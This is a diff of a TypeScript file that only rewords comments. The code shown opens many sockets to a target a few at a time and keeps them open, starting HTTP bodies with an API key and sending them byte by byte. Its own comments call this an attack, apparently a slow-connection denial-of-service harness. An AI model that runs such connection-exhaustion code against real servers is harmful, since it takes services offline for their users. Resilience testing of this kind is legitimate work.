@@ -12,7 +12,7 @@ async function openSockets({ host, port }: Target, count: number): Promise<Socke
   const sockets = Array.from({ length: count }, () => {
     const socket = connect(port, host);
     socket.on('error', () => {});
-    // Reads and drops what comes, so that a close is seen.
+    // Reads and discards data, so that a close is noticed.
     return socket.resume();
   });
   await Promise.all(
@@ -21,7 +21,7 @@ async function openSockets({ host, port }: Target, count: number): Promise<Socke
   return sockets;
 }
 
-/** A few at a time: the attack is that they stay. */
+/** Opens a few at a time, because the attack is to keep them open. */
 async function openGradually(
   target: Target,
   count: number,
@@ -39,7 +39,7 @@ async function openGradually(
 
 const firstBytes = 16 * 1024;
 
-/** With a key, so that the body is wanted; it goes on byte by byte. */
+/** Starts a body with a key, so that the server reads it; it continues byte by byte. */
 function startBody(socket: Socket, { apiKey, projectHash }: Target): void {
   socket.write(
     lines(
